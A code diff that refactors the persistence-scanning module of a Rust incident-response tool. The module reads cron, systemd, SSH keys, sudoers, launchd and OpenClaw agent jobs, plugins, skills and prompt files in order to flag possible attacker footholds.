@@ -1,16 +1,20 @@
-//! `ir persistence`: every mechanism in `field-notes.md` §1 that can bring
-//! an attacker back, read under `--root`, plus OpenClaw's own: its
-//! supervisor, scheduled jobs, hooks, plugins, skills, MCP servers and the
-//! prompt files (SOUL.md, AGENTS.md...) every session reads.
+//! `ir persistence`: every mechanism that can bring an attacker back, read
+//! under `--root`, plus OpenClaw's own: its supervisor, scheduled jobs,
+//! hooks, plugins, skills, MCP servers and the prompt files (SOUL.md,
+//! AGENTS.md...) every session reads.
 //!
-//! Mechanisms are a table of (name, ATT&CK id, locations, parser); a parser
-//! turns a file into items (a cron line, a unit's ExecStart, a key in
-//! authorized_keys) and the flaggers look at each item's command and file.
+//! The host mechanisms and their locations are the table in
+//! [`crate::persistence_catalogue`], the same one `ir collect` takes its
+//! scope from, so whatever is judged here is also in the evidence bundle.
+//! This module owns the reading and judging: a parser turns a file into
+//! items (a cron line, a unit's ExecStart, a key in authorized_keys) and the
+//! flag rules look at each item's command and file.
 
 use super::window::Window;
 use crate::host::Root;
 use crate::host::users::{self, User};
 use crate::openclaw::{Deployment, config};
+use crate::persistence_catalogue::{self as catalogue, Location, Mechanism, Parser, Runs};
 use regex::Regex;
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
@@ -155,6 +159,7 @@ struct Ctx<'a> {
     root: &'a Root,
     window: &'a Window,
     dpkg: Option<HashSet<String>>,
+    users: Vec<User>,
     items: Vec<Item>,
     unreadable: Vec<String>,
 }
@@ -163,7 +168,30 @@ fn fmt_ts(s: i64, n: i64) -> Option<String> {
     crate::evidence::collect::ts(s, n)
 }
 
-impl Ctx<'_> {
+impl<'a> Ctx<'a> {
+    fn new(root: &'a Root, window: &'a Window) -> Ctx<'a> {
+        Ctx {
+            root,
+            window,
+            dpkg: dpkg_files(root),
+            users: users::users(root),
+            items: Vec::new(),
+            unreadable: Vec::new(),
+        }
+    }
+
+    /// The report: the items that have a path, and how many are flagged.
+    fn finish(mut self) -> Report {
+        self.items.retain(|i| !i.path.is_empty());
+        let flagged = self.items.iter().filter(|i| !i.flags.is_empty()).count();
+        Report {
+            items: self.items,
+            flagged,
+            unreadable: self.unreadable,
+            baseline: None,
+        }
+    }
+
     /// Builds an item for a file at a local path, with its metadata.
     fn item(&self, mechanism: &str, attack: &str, local: &Path, data: Option<&[u8]>) -> Item {
         let host = self.root.host_view(local);
@@ -293,15 +321,51 @@ pub fn parse_cron_line(l: &str, has_user: bool) -> Option<(String, Option<String
     Some((sched.join(" "), user, cmd.join(" ")))
 }
 
-fn cron(c: &mut Ctx, host: &str, has_user: bool, spool_user: bool) {
-    for f in c.files(Path::new(host)) {
+/// Files directly at a location. Subdirectories are skipped: the ones
+/// that matter are catalogue locations of their own.
+fn file_entries(c: &mut Ctx, host: &Path) -> Vec<PathBuf> {
+    c.files(host)
+        .into_iter()
+        .filter(|f| {
+            !crate::safefs::lstat(f)
+                .ok()
+                .flatten()
+                .is_some_and(|m| m.file_type().is_dir())
+        })
+        .collect()
+}
+
+/// Reads one catalogue location with its mechanism's parser.
+fn gather(c: &mut Ctx, loc: &Location) {
+    let m = loc.mechanism;
+    let host = loc.host.as_path();
+    match m.parser {
+        Parser::Crontab => cron(c, m, host),
+        Parser::Script => scripts(c, m.id, m.attack, host),
+        Parser::Keyed { suffixes, keys } => keyed(c, m.id, m.attack, host, suffixes, keys),
+        Parser::Lines(runs) => listed(c, m, host, runs),
+        Parser::Links => links(c, m, host),
+        Parser::AuthorizedKeys => authorized_keys(c, m, host, loc.account.as_deref()),
+        Parser::Sudoers => sudoers(c, m, host),
+        Parser::Launchd => launchd(c, m, host),
+        Parser::Linger => linger(c, m, host),
+        Parser::Accounts => uid0_accounts(c, m, host),
+        Parser::Listing => listing(c, m, host),
+    }
+}
+
+fn cron(c: &mut Ctx, m: &Mechanism, host: &Path) {
+    // System crontabs name the user on each line; a spool crontab is the
+    // file of the user it is named after.
+    let system = host.starts_with("/etc");
+    for f in file_entries(c, host) {
         let Some(data) = c.read(&f) else { continue };
-        let user = spool_user
+        let user = (!system)
             .then(|| f.file_name().map(|n| n.to_string_lossy().into_owned()))
             .flatten();
-        let base = c.item("cron", "T1053.003", &f, Some(&data));
+        let base = c.item(m.id, m.attack, &f, Some(&data));
         for l in lines(&data) {
-            if let Some((sched, u, cmd)) = parse_cron_line(l, has_user) {
+            if let Some((sched, u, cmd)) = parse_cron_line(l, system) {
                 let mut it = base.clone();
                 it.user = u.or_else(|| user.clone());
                 it.detail = Some(sched);
@@ -312,183 +376,282 @@ fn cron(c: &mut Ctx, host: &str, has_user: bool, spool_user: bool) {
 }
 
 /// Whole files that run as scripts (cron.daily, profile.d, rc.local...).
-fn scripts(c: &mut Ctx, mech: &str, attack: &str, host: &str) {
-    for f in c.files(Path::new(host)) {
-        let Some(data) = c.read(&f) else { continue };
-        let text = String::from_utf8_lossy(&data).into_owned();
-        let it = c.item(mech, attack, &f, Some(&data));
-        // The command is the script's first flagged line, if any.
-        let bad = text
-            .lines()
-            .find(|l| !text_flags(l).is_empty())
-            .map(str::to_owned);
-        c.push(it, bad.as_deref());
+fn scripts(c: &mut Ctx, mech: &str, attack: &str, host: &Path) {
+    for f in file_entries(c, host) {
+        script(c, mech, attack, &f);
     }
 }
 
+fn script(c: &mut Ctx, mech: &str, attack: &str, local: &Path) {
+    let Some(data) = c.read(local) else { return };
+    let text = String::from_utf8_lossy(&data).into_owned();
+    let it = c.item(mech, attack, local, Some(&data));
+    c.push(it, first_flagged_line(&text).as_deref());
+}
+
+/// A script's command, for the report: its first line a flag rule catches.
+fn first_flagged_line(text: &str) -> Option<String> {
+    text.lines()
+        .find(|l| !text_flags(l).is_empty())
+        .map(str::to_owned)
+}
+
 /// `Key=value` lines of systemd units, desktop files and the like.
-fn keyed(c: &mut Ctx, mech: &str, attack: &str, host_dir: &str, suffixes: &[&str], keys: &[&str]) {
-    for f in c.files(Path::new(host_dir)) {
+fn keyed(c: &mut Ctx, mech: &str, attack: &str, host_dir: &Path, suffixes: &[&str], keys: &[&str]) {
+    for f in c.files(host_dir) {
         let name = f
             .file_name()
             .map(|n| n.to_string_lossy().into_owned())
             .unwrap_or_default();
-        if !suffixes.iter().any(|s| name.ends_with(s)) {
-            // A drop-in dir for a unit: look inside.
-            // A unit's drop-in dir (`x.service.d/`) belongs to the pass for its kind.
-            let unit = name.strip_suffix(".d").unwrap_or("");
-            if !unit.is_empty() && suffixes.iter().any(|s| unit.ends_with(s)) && f.is_dir() {
-                keyed(
-                    c,
-                    mech,
-                    attack,
-                    &c.root.host_view(&f).to_string_lossy(),
-                    &[".conf"],
-                    keys,
-                );
-            } else if (name.ends_with(".wants") || name.ends_with(".requires"))
-                && suffixes.contains(&".service")
-            {
-                for l in c.files(&c.root.host_view(&f)) {
-                    let target = std::fs::read_link(&l)
-                        .ok()
-                        .map(|t| t.to_string_lossy().into_owned());
-                    let mut it = c.item("systemd-enablement", "T1543.002", &l, None);
-                    it.detail = target;
-                    c.push(it, None);
-                }
-            }
+        if suffixes.iter().any(|s| name.ends_with(s)) {
+            keyed_file(c, mech, attack, &f, keys);
             continue;
         }
-        let meta = crate::safefs::lstat(&f).ok().flatten();
-        if meta.as_ref().is_some_and(|m| m.file_type().is_symlink()) {
-            let mut it = c.item(mech, attack, &f, None);
-            it.detail = std::fs::read_link(&f)
-                .ok()
-                .map(|t| format!("symlink to {}", crate::sanitize::escape_path(&t)));
-            c.push(it, None);
-            continue;
+        // A unit's drop-in dir (`x.service.d/`) belongs to the pass for its kind.
+        let unit = name.strip_suffix(".d").unwrap_or("");
+        if !unit.is_empty() && suffixes.iter().any(|s| unit.ends_with(s)) && f.is_dir() {
+            let drop_ins = c.root.host_view(&f);
+            keyed(c, mech, attack, &drop_ins, &[".conf"], keys);
+        } else if (name.ends_with(".wants") || name.ends_with(".requires"))
+            && suffixes.contains(&".service")
+        {
+            enablement_links(c, &f);
         }
+    }
+}
+
+/// The links in a `.wants`/`.requires` dir: what is enabled, and by what.
+fn enablement_links(c: &mut Ctx, dir: &Path) {
+    for l in c.files(&c.root.host_view(dir)) {
+        let target = std::fs::read_link(&l)
+            .ok()
+            .map(|t| t.to_string_lossy().into_owned());
+        let mut it = c.item("systemd-enablement", "T1543.002", &l, None);
+        it.detail = target;
+        c.push(it, None);
+    }
+}
+
+fn keyed_file(c: &mut Ctx, mech: &str, attack: &str, f: &Path, keys: &[&str]) {
+    let meta = crate::safefs::lstat(f).ok().flatten();
+    if meta.as_ref().is_some_and(|m| m.file_type().is_symlink()) {
+        let mut it = c.item(mech, attack, f, None);
+        it.detail = std::fs::read_link(f)
+            .ok()
+            .map(|t| format!("symlink to {}", crate::sanitize::escape_path(&t)));
+        c.push(it, None);
+        return;
+    }
+    let Some(data) = c.read(f) else { return };
+    let base = c.item(mech, attack, f, Some(&data));
+    let mut any = false;
+    for l in lines(&data) {
+        if let Some((k, v)) = l.split_once('=')
+            && keys.iter().any(|key| k.trim().eq_ignore_ascii_case(key))
+        {
+            let mut it = base.clone();
+            it.detail = Some(k.trim().to_string());
+            c.push(it, Some(v.trim().trim_start_matches(['-', '@', '+', '!'])));
+            any = true;
+        }
+    }
+    if !any {
+        c.push(base, None);
+    }
+}
+
+/// One item per line that names a program, picked by the catalogue's [`Runs`].
+fn listed(c: &mut Ctx, m: &Mechanism, host: &Path, runs: Runs) {
+    for f in file_entries(c, host) {
         let Some(data) = c.read(&f) else { continue };
-        let base = c.item(mech, attack, &f, Some(&data));
-        let mut any = false;
+        let base = c.item(m.id, m.attack, &f, Some(&data));
         for l in lines(&data) {
-            if let Some((k, v)) = l.split_once('=')
-                && keys.iter().any(|key| k.trim().eq_ignore_ascii_case(key))
-            {
-                let mut it = base.clone();
-                it.detail = Some(k.trim().to_string());
-                c.push(it, Some(v.trim().trim_start_matches(['-', '@', '+', '!'])));
-                any = true;
-            }
-        }
-        if !any {
-            c.push(base, None);
-        }
-    }
-}
-
-/// `AuthorizedKeysFile` patterns from sshd_config and its drop-ins.
-fn authorized_keys_patterns(c: &mut Ctx) -> Vec<String> {
-    let mut pats = Vec::new();
-    let mut files = vec![c.root.join("/etc/ssh/sshd_config")];
-    files.extend(c.files(Path::new("/etc/ssh/sshd_config.d")));
-    for f in files {
-        let Some(data) = c.read(&f) else { continue };
-        for l in lines(&data) {
-            let mut w = l.split_whitespace();
-            if w.next()
-                .is_some_and(|k| k.eq_ignore_ascii_case("AuthorizedKeysFile"))
-            {
-                pats.extend(w.map(str::to_owned));
-            }
-        }
-    }
-    if pats.is_empty() {
-        pats = vec![
-            ".ssh/authorized_keys".into(),
-            ".ssh/authorized_keys2".into(),
-        ];
-    }
-    pats
-}
-
-fn expand_keys_pattern(p: &str, u: &User) -> String {
-    let s = p
-        .replace("%%", "\u{0}")
-        .replace("%h", &u.home)
-        .replace("%u", &u.name)
-        .replace("%U", &u.uid.to_string())
-        .replace('\u{0}', "%");
-    if s.starts_with('/') {
-        s
-    } else {
-        format!("{}/{s}", u.home.trim_end_matches('/'))
-    }
-}
-
-fn ssh(c: &mut Ctx, all: &[User]) {
-    let pats = authorized_keys_patterns(c);
-    for u in all {
-        if u.home.is_empty() {
-            continue;
-        }
-        for p in &pats {
-            let host = expand_keys_pattern(p, u);
-            let local = c.root.join(&host);
-            let Some(data) = c.read(&local) else { continue };
-            let base = c.item("ssh-authorized-keys", "T1098.004", &local, Some(&data));
-            for l in lines(&data) {
-                let mut it = base.clone();
-                it.user = Some(u.name.clone());
-                let fields: Vec<&str> = l.split_whitespace().collect();
-                let ki = fields.iter().position(|f| {
-                    f.starts_with("ssh-") || f.starts_with("ecdsa-") || f.starts_with("sk-")
-                });
-                let comment = ki.map(|i| fields[i + 2..].join(" ")).unwrap_or_default();
-                let options = ki.map(|i| fields[..i].join(" ")).unwrap_or_default();
-                it.detail = Some(
-                    format!(
-                        "{} {}",
-                        ki.map(|i| fields[i]).unwrap_or("?"),
-                        crate::sanitize::escape(&comment)
-                    )
-                    .trim()
-                    .to_string(),
-                );
-                // A forced command= is what such a key runs.
-                let cmd = options
-                    .split("command=\"")
-                    .nth(1)
-                    .and_then(|r| r.split('"').next())
-                    .map(str::to_owned);
-                c.push(it, cmd.as_deref());
-            }
-        }
-        let local = c.root.join(Path::new(&u.home).join(".ssh/rc"));
-        if let Some(data) = c.read(&local) {
-            let it = c.item("ssh-rc", "T1098.004", &local, Some(&data));
-            let text = String::from_utf8_lossy(&data).into_owned();
-            c.push(it, Some(&text));
-        }
-    }
-    scripts(c, "ssh-rc", "T1098.004", "/etc/ssh/sshrc");
-}
-
-fn listed(c: &mut Ctx, mech: &str, attack: &str, host: &str, pick: fn(&str) -> Option<String>) {
-    for f in c.files(Path::new(host)) {
-        let Some(data) = c.read(&f) else { continue };
-        let base = c.item(mech, attack, &f, Some(&data));
-        for l in lines(&data) {
-            if let Some(cmd) = pick(l) {
+            if let Some(cmd) = pick(runs, l) {
                 c.push(base.clone(), Some(&cmd));
             }
         }
     }
 }
 
+/// The program a line names, if it names one.
+fn pick(runs: Runs, l: &str) -> Option<String> {
+    match runs {
+        Runs::WholeLine => Some(l.to_string()),
+        Runs::Module => module_line(l),
+        Runs::Containing(s) => l.contains(s).then(|| l.to_string()),
+        Runs::Keyword(keys) => keyword_value(l, keys),
+        Runs::Anacron => {
+            let f: Vec<&str> = l.split_whitespace().collect();
+            (f.len() >= 4 && !f[0].contains('=')).then(|| f[3..].join(" "))
+        }
+        Runs::UdevRun => l.split(',').map(str::trim).find_map(|kv| {
+            kv.strip_prefix("RUN+=")
+                .or_else(|| kv.strip_prefix("RUN="))
+                .map(|v| v.trim_matches('"').to_string())
+        }),
+        Runs::AptInvoke => (l.contains("Pre-Invoke") || l.contains("Post-Invoke")).then(|| {
+            l.split_once('"')
+                .map_or(l, |(_, r)| r.trim_end_matches([';', '}', '"', ' ']))
+                .to_string()
+        }),
+    }
+}
+
+/// A module name (modules-load.d), or what a modprobe `install` line runs
+/// instead of loading the module.
+fn module_line(l: &str) -> Option<String> {
+    if let Some(cmd) = l.strip_prefix("install ") {
+        return Some(cmd.to_string());
+    }
+    let first = l.split_whitespace().next()?;
+    let directive = [
+        "alias",
+        "blacklist",
+        "options",
+        "remove",
+        "softdep",
+        "weakdep",
+    ];
+    (!directive.contains(&first)).then(|| l.to_string())
+}
+
+/// The value of `Key value` or `Key=value` for one of `keys`.
+fn keyword_value(l: &str, keys: &[&str]) -> Option<String> {
+    let (k, v) = l.split_once(|c: char| c.is_whitespace() || c == '=')?;
+    let v = v.trim_start_matches(|c: char| c.is_whitespace() || c == '=');
+    (keys.iter().any(|key| k.eq_ignore_ascii_case(key)) && !v.is_empty())
+        .then(|| v.trim().to_string())
+}
+
+/// Links to scripts (`/etc/rc2.d/S01x`): the target is what runs.
+fn links(c: &mut Ctx, m: &Mechanism, host: &Path) {
+    for f in file_entries(c, host) {
+        match std::fs::read_link(&f) {
+            Ok(t) => {
+                let mut it = c.item(m.id, m.attack, &f, None);
+                it.detail = Some(format!("symlink to {}", crate::sanitize::escape_path(&t)));
+                c.push(it, Some(&t.to_string_lossy()));
+            }
+            Err(_) => script(c, m.id, m.attack, &f),
+        }
+    }
+}
+
+/// One authorized_keys file of one account.
+fn authorized_keys(c: &mut Ctx, m: &Mechanism, host: &Path, account: Option<&str>) {
+    let local = c.root.join(host);
+    let Some(data) = c.read(&local) else { return };
+    let base = c.item(m.id, m.attack, &local, Some(&data));
+    for l in lines(&data) {
+        let mut it = base.clone();
+        it.user = account.map(str::to_owned);
+        let fields: Vec<&str> = l.split_whitespace().collect();
+        let ki = fields
+            .iter()
+            .position(|f| f.starts_with("ssh-") || f.starts_with("ecdsa-") || f.starts_with("sk-"));
+        let comment = ki.map(|i| fields[i + 2..].join(" ")).unwrap_or_default();
+        let options = ki.map(|i| fields[..i].join(" ")).unwrap_or_default();
+        it.detail = Some(
+            format!(
+                "{} {}",
+                ki.map(|i| fields[i]).unwrap_or("?"),
+                crate::sanitize::escape(&comment)
+            )
+            .trim()
+            .to_string(),
+        );
+        // A forced command= is what such a key runs.
+        let cmd = options
+            .split("command=\"")
+            .nth(1)
+            .and_then(|r| r.split('"').next())
+            .map(str::to_owned);
+        c.push(it, cmd.as_deref());
+    }
+}
+
+fn sudoers(c: &mut Ctx, m: &Mechanism, host: &Path) {
+    for f in file_entries(c, host) {
+        let Some(data) = c.read(&f) else { continue };
+        let base = c.item(m.id, m.attack, &f, Some(&data));
+        let rules = lines(&data).filter(|l| {
+            !l.starts_with("Defaults") && !l.starts_with("@include") && l.contains('=')
+        });
+        for l in rules {
+            let mut it = base.clone();
+            if l.contains("NOPASSWD") {
+                it.flags.push("nopasswd".into());
+            }
+            it.detail = Some(crate::sanitize::escape(l));
+            c.items.push(it);
+        }
+    }
+}
+
+fn launchd(c: &mut Ctx, m: &Mechanism, host: &Path) {
+    for f in file_entries(c, host) {
+        let Some(data) = c.read(&f) else { continue };
+        let text = String::from_utf8_lossy(&data).into_owned();
+        let it = c.item(m.id, m.attack, &f, Some(&data));
+        c.push(it, Some(&plist_program(&text)));
+    }
+}
+
+fn linger(c: &mut Ctx, m: &Mechanism, host: &Path) {
+    for f in c.files(host) {
+        let mut it = c.item(m.id, m.attack, &f, None);
+        it.user = f.file_name().map(|n| n.to_string_lossy().into_owned());
+        c.push(it, None);
+    }
+}
+
+/// Accounts with uid 0 besides root, from the passwd file at `host`.
+fn uid0_accounts(c: &mut Ctx, m: &Mechanism, host: &Path) {
+    let passwd = c.root.join(host);
+    let extra: Vec<User> = c
+        .users
+        .iter()
+        .filter(|u| u.uid == 0 && u.name != "root")
+        .cloned()
+        .collect();
+    for u in extra {
+        let mut it = c.item(m.id, m.attack, &passwd, None);
+        it.user = Some(u.name.clone());
+        it.flags.push("uid0".into());
+        it.detail = Some(format!(
+            "{} has uid 0 (home {}, shell {})",
+            u.name, u.home, u.shell
+        ));
+        c.items.push(it);
+    }
+}
+
+/// Files where nothing runs: their metadata and hash, even when unreadable.
+fn listing(c: &mut Ctx, m: &Mechanism, host: &Path) {
+    for f in file_entries(c, host) {
+        let data = c.read(&f);
+        let it = c.item(m.id, m.attack, &f, data.as_deref());
+        c.items.push(it);
+    }
+}
+
+/// OpenClaw's own mechanisms, read from the deployment rather than the
+/// catalogue: the deployment says where they are.
 fn openclaw(c: &mut Ctx, dep: &Deployment) {
-    let state = &dep.paths.state_dir;
+    supervisors(c, dep);
+    legacy_jobs(c, &dep.paths.state_dir);
+    sqlite_jobs(c, &dep.paths.state_dir);
+    let cfg = dep.config.clone().unwrap_or(Value::Null);
+    hooks_setting(c, dep, &cfg);
+    let places = AgentPlaces::of(dep);
+    extensions(c, &places.extension_dirs);
+    plugin_entries(c, dep, &cfg);
+    skills(c, &places.skill_dirs);
+    mcp_servers(c, dep, &cfg);
+    prompt_files(c, &places.prompts);
+}
+
+fn supervisors(c: &mut Ctx, dep: &Deployment) {
     for s in &dep.runtime.supervisors {
         let data = c.read(&s.path);
         let mut it = c.item("openclaw-supervisor", "T1543.002", &s.path, data.as_deref());
@@ -508,94 +671,123 @@ fn openclaw(c: &mut Ctx, dep: &Deployment) {
             .and_then(|d| lines(d).find_map(|l| l.strip_prefix("ExecStart=").map(str::to_owned)));
         c.push(it, exec.as_deref());
     }
-    // Scheduled agent jobs: the legacy file and the SQLite table.
+}
+
+/// Scheduled agent jobs in the legacy `cron/jobs.json`.
+fn legacy_jobs(c: &mut Ctx, state: &Path) {
     let legacy = state.join("cron/jobs.json");
-    if let Some(data) = c.read(&legacy) {
-        let base = c.item("openclaw-cron", "T1053", &legacy, Some(&data));
-        if let Ok(v) = serde_json::from_slice::<Value>(&data) {
-            for j in v
-                .get("jobs")
-                .and_then(Value::as_array)
-                .into_iter()
-                .flatten()
-            {
-                cron_job(c, &base, j);
-            }
-        }
-    }
-    let db = state.join("state/openclaw.sqlite");
-    if crate::safefs::lstat(&db).ok().flatten().is_some() {
-        match crate::sqlite::open_readonly(&db) {
-            Ok(conn) if crate::sqlite::has_table(&conn.conn, "cron_jobs") => {
-                let base = c.item("openclaw-cron", "T1053", &db, None);
-                let rows: Vec<(String, Option<String>, String)> = conn
-                    .conn
-                    .prepare(
-                        "SELECT job_id, declaration_key, job_json FROM cron_jobs ORDER BY rowid",
-                    )
-                    .and_then(|mut s| {
-                        s.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))?
-                            .collect()
-                    })
-                    .unwrap_or_default();
-                for (id, decl, json) in rows {
-                    let mut j: Value = serde_json::from_str(&json).unwrap_or(Value::Null);
-                    if j.get("declarationKey").is_none() && decl.is_some() {
-                        j["declarationKey"] = Value::from(decl);
-                    }
-                    if j.get("id").is_none() {
-                        j["id"] = Value::from(id);
-                    }
-                    cron_job(c, &base, &j);
-                }
-            }
-            Ok(_) => {}
-            Err(e) => c.unreadable.push(format!("{}: {e:#}", db.display())),
-        }
-    }
-    // Hooks, plugins and extensions, skills, MCP servers, prompt files.
-    let cfg = dep.config.clone().unwrap_or(Value::Null);
-    if let Some(h) = config::get(&cfg, "hooks").filter(|h| h.is_object()) {
-        let mut it = c.item("openclaw-hooks", "T1546", &dep.paths.config, None);
-        let mappings = h
-            .get("mappings")
+    let Some(data) = c.read(&legacy) else { return };
+    let base = c.item("openclaw-cron", "T1053", &legacy, Some(&data));
+    if let Ok(v) = serde_json::from_slice::<Value>(&data) {
+        for j in v
+            .get("jobs")
             .and_then(Value::as_array)
-            .map_or(0, Vec::len);
-        it.detail = Some(format!(
-            "hooks enabled={} mappings={mappings} path={}",
-            h.get("enabled").unwrap_or(&Value::Null),
-            h.get("path").and_then(Value::as_str).unwrap_or("-")
-        ));
-        c.push(it, None);
-    }
-    let mut dirs = vec![state.join("extensions"), state.join("hooks")];
-    let mut skill_dirs = vec![state.join("skills"), state.join("plugin-skills")];
-    let mut prompts = Vec::new();
-    for a in &dep.agents {
-        if let Some(w) = &a.workspace {
-            dirs.push(w.join(".openclaw/extensions"));
-            skill_dirs.push(w.join("skills"));
-            for f in [
-                "SOUL.md",
-                "AGENTS.md",
-                "MEMORY.md",
-                "IDENTITY.md",
-                "USER.md",
-                "BOOTSTRAP.md",
-                "TOOLS.md",
-                "HEARTBEAT.md",
-            ] {
-                prompts.push(w.join(f));
-            }
+            .into_iter()
+            .flatten()
+        {
+            cron_job(c, &base, j);
         }
     }
+}
+
+/// Scheduled agent jobs in the state database's `cron_jobs` table.
+fn sqlite_jobs(c: &mut Ctx, state: &Path) {
+    let db = state.join("state/openclaw.sqlite");
+    if crate::safefs::lstat(&db).ok().flatten().is_none() {
+        return;
+    }
+    let conn = match crate::sqlite::open_readonly(&db) {
+        Ok(conn) if crate::sqlite::has_table(&conn.conn, "cron_jobs") => conn,
+        Ok(_) => return,
+        Err(e) => {
+            c.unreadable.push(format!("{}: {e:#}", db.display()));
+            return;
+        }
+    };
+    let base = c.item("openclaw-cron", "T1053", &db, None);
+    let rows: Vec<(String, Option<String>, String)> = conn
+        .conn
+        .prepare("SELECT job_id, declaration_key, job_json FROM cron_jobs ORDER BY rowid")
+        .and_then(|mut s| {
+            s.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))?
+                .collect()
+        })
+        .unwrap_or_default();
+    for (id, decl, json) in rows {
+        let mut j: Value = serde_json::from_str(&json).unwrap_or(Value::Null);
+        if j.get("declarationKey").is_none() && decl.is_some() {
+            j["declarationKey"] = Value::from(decl);
+        }
+        if j.get("id").is_none() {
+            j["id"] = Value::from(id);
+        }
+        cron_job(c, &base, &j);
+    }
+}
+
+/// The `hooks` setting: whether webhooks can start agent turns.
+fn hooks_setting(c: &mut Ctx, dep: &Deployment, cfg: &Value) {
+    let Some(h) = config::get(cfg, "hooks").filter(|h| h.is_object()) else {
+        return;
+    };
+    let mut it = c.item("openclaw-hooks", "T1546", &dep.paths.config, None);
+    let mappings = h
+        .get("mappings")
+        .and_then(Value::as_array)
+        .map_or(0, Vec::len);
+    it.detail = Some(format!(
+        "hooks enabled={} mappings={mappings} path={}",
+        h.get("enabled").unwrap_or(&Value::Null),
+        h.get("path").and_then(Value::as_str).unwrap_or("-")
+    ));
+    c.push(it, None);
+}
+
+/// Where the deployment and its agents keep code and prompts (local paths).
+struct AgentPlaces {
+    extension_dirs: Vec<PathBuf>,
+    skill_dirs: Vec<PathBuf>,
+    prompts: Vec<PathBuf>,
+}
+
+/// The files in a workspace that every session reads as instructions.
+const PROMPT_FILES: &[&str] = &[
+    "SOUL.md",
+    "AGENTS.md",
+    "MEMORY.md",
+    "IDENTITY.md",
+    "USER.md",
+    "BOOTSTRAP.md",
+    "TOOLS.md",
+    "HEARTBEAT.md",
+];
+
+impl AgentPlaces {
+    fn of(dep: &Deployment) -> AgentPlaces {
+        let state = &dep.paths.state_dir;
+        let mut p = AgentPlaces {
+            extension_dirs: vec![state.join("extensions"), state.join("hooks")],
+            skill_dirs: vec![state.join("skills"), state.join("plugin-skills")],
+            prompts: Vec::new(),
+        };
+        for w in dep.agents.iter().filter_map(|a| a.workspace.as_ref()) {
+            p.extension_dirs.push(w.join(".openclaw/extensions"));
+            p.skill_dirs.push(w.join("skills"));
+            p.prompts.extend(PROMPT_FILES.iter().map(|f| w.join(f)));
+        }
+        p
+    }
+}
+
+/// Installed extensions and hook packages, one item per package dir.
+fn extensions(c: &mut Ctx, dirs: &[PathBuf]) {
     for d in dirs {
-        for e in c.files(&c.root.host_view(&d)) {
-            let mech = if d.ends_with("hooks") {
-                "openclaw-hooks"
-            } else {
-                "openclaw-plugin"
-            };
+        let mech = if d.ends_with("hooks") {
+            "openclaw-hooks"
+        } else {
+            "openclaw-plugin"
+        };
+        for e in c.files(&c.root.host_view(d)) {
             let pkg = c
                 .read(&e.join("package.json"))
                 .or_else(|| c.read(&e.join("openclaw.plugin.json")));
@@ -612,19 +804,28 @@ fn openclaw(c: &mut Ctx, dep: &Deployment) {
             c.push(it, None);
         }
     }
-    if let Some(Value::Object(p)) = config::get(&cfg, "plugins.entries") {
-        for (name, v) in p {
-            let mut it = c.item("openclaw-plugin", "T1546", &dep.paths.config, None);
-            it.detail = Some(format!(
-                "plugins.entries.{} enabled={}",
-                crate::sanitize::escape(name),
-                v.get("enabled").unwrap_or(&Value::Bool(true))
-            ));
-            c.items.push(it);
-        }
+}
+
+fn plugin_entries(c: &mut Ctx, dep: &Deployment, cfg: &Value) {
+    let Some(Value::Object(p)) = config::get(cfg, "plugins.entries") else {
+        return;
+    };
+    for (name, v) in p {
+        let mut it = c.item("openclaw-plugin", "T1546", &dep.paths.config, None);
+        it.detail = Some(format!(
+            "plugins.entries.{} enabled={}",
+            crate::sanitize::escape(name),
+            v.get("enabled").unwrap_or(&Value::Bool(true))
+        ));
+        c.items.push(it);
     }
-    for d in skill_dirs {
-        let walker = walkdir::WalkDir::new(&d)
+}
+
+/// Every SKILL.md a few levels under the skill dirs.
+fn skills(c: &mut Ctx, dirs: &[PathBuf]) {
+    static BLOB: OnceLock<Regex> = OnceLock::new();
+    for d in dirs {
+        let walker = walkdir::WalkDir::new(d)
             .follow_links(false)
             .max_depth(4)
             .into_iter()
@@ -635,7 +836,6 @@ fn openclaw(c: &mut Ctx, dep: &Deployment) {
             };
             let text = String::from_utf8_lossy(&data).into_owned();
             let mut it = c.item("openclaw-skill", "T1546", e.path(), Some(&data));
-            static BLOB: OnceLock<Regex> = OnceLock::new();
             if re(&BLOB, r"[A-Za-z0-9+/]{60,}={0,2}").is_match(&text)
                 && !it.flags.iter().any(|f| f == "base64_decode")
             {
@@ -645,46 +845,46 @@ fn openclaw(c: &mut Ctx, dep: &Deployment) {
                 .lines()
                 .find_map(|l| l.strip_prefix("name:"))
                 .map(|n| n.trim().to_string());
-            let bad = text
-                .lines()
-                .find(|l| !text_flags(l).is_empty())
-                .map(str::to_owned);
-            c.push(it, bad.as_deref());
+            c.push(it, first_flagged_line(&text).as_deref());
         }
     }
+}
+
+fn mcp_servers(c: &mut Ctx, dep: &Deployment, cfg: &Value) {
     for key in ["mcp.servers", "nodeHost.mcp.servers"] {
-        if let Some(Value::Object(servers)) = config::get(&cfg, key) {
-            for (name, s) in servers {
-                let mut it = c.item("openclaw-mcp-server", "T1546", &dep.paths.config, None);
-                it.detail = Some(format!("{key}.{}", crate::sanitize::escape(name)));
-                let cmd = match (
-                    s.get("command").and_then(Value::as_str),
-                    s.get("url").and_then(Value::as_str),
-                ) {
-                    (Some(cmd), _) => {
-                        let args: Vec<&str> = s
-                            .get("args")
-                            .and_then(Value::as_array)
-                            .map(|a| a.iter().filter_map(Value::as_str).collect())
-                            .unwrap_or_default();
-                        format!("{cmd} {}", args.join(" "))
-                    }
-                    (None, Some(u)) => u.to_string(),
-                    _ => String::new(),
-                };
-                c.push(it, Some(&cmd));
-            }
+        let Some(Value::Object(servers)) = config::get(cfg, key) else {
+            continue;
+        };
+        for (name, s) in servers {
+            let mut it = c.item("openclaw-mcp-server", "T1546", &dep.paths.config, None);
+            it.detail = Some(format!("{key}.{}", crate::sanitize::escape(name)));
+            c.push(it, Some(&mcp_command(s)));
         }
     }
+}
+
+/// What an MCP server definition runs: its command and args, or its URL.
+fn mcp_command(s: &Value) -> String {
+    match (
+        s.get("command").and_then(Value::as_str),
+        s.get("url").and_then(Value::as_str),
+    ) {
+        (Some(cmd), _) => {
+            let args: Vec<&str> = s
+                .get("args")
+                .and_then(Value::as_array)
+                .map(|a| a.iter().filter_map(Value::as_str).collect())
+                .unwrap_or_default();
+            format!("{cmd} {}", args.join(" "))
+        }
+        (None, Some(u)) => u.to_string(),
+        _ => String::new(),
+    }
+}
+
+fn prompt_files(c: &mut Ctx, prompts: &[PathBuf]) {
     for p in prompts {
-        let Some(data) = c.read(&p) else { continue };
